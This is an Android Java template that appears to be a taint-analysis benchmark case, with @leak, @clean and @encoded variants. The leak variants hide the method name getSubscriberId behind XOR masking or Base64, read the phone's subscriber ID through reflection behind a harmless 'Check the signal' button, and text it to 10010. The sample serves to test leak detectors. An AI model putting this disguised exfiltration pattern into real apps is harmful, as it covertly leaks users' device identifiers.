package bench.flow.masked_name;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Base64;
import android.widget.CheckedTextView;

public final class Main extends Activity {
    private static final int MASK = 0x5a;
    private static final int[] WORD = { //: @leak,clean
        61, 63, 46, 9, 47, 56, 41, 57, 40, 51, 56, 63, 40, 19, 62 //: @leak
        61, 63, 46, 20, 63, 46, 45, 53, 40, 49, 21, 42, 63, 40, 59, 46, 53, 40, 20, 59, 55, 63 //: @clean
    }; //: @leak,clean
    private static final String WORD = "Z2V0U3Vic2NyaWJlcklk"; //: @encoded

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        requestPermissions(
                new String[] {
                    "android.permission.READ_PHONE_STATE", "android.permission.SEND_SMS"
                },
                MASK);
        CheckedTextView check = new CheckedTextView(this);
        check.setText("Check the signal");
        check.setOnClickListener(
                view -> {
                    check.toggle();
                    check();
                });
        setContentView(check);
    }

    private static String name() {
        StringBuilder name = new StringBuilder();
        for (int letter : WORD) { //: @leak,clean
            name.append((char) (letter ^ MASK)); //: @leak,clean
        } //: @leak,clean
        name.append(new String(Base64.decode(WORD, Base64.DEFAULT))); //: @encoded
        return name.toString();
    }

    private void check() {
        try {
            Object phone = getSystemService("phone");
            Object answer = TelephonyManager.class.getMethod(name()).invoke(phone); //: #source
            SmsManager sms = SmsManager.getDefault();
            sms.sendTextMessage("10010", null, "QUERY " + answer, null, null); //: #sink
        } catch (ReflectiveOperationException | SecurityException denied) {
            setTitle("No signal");
        }
    }
}
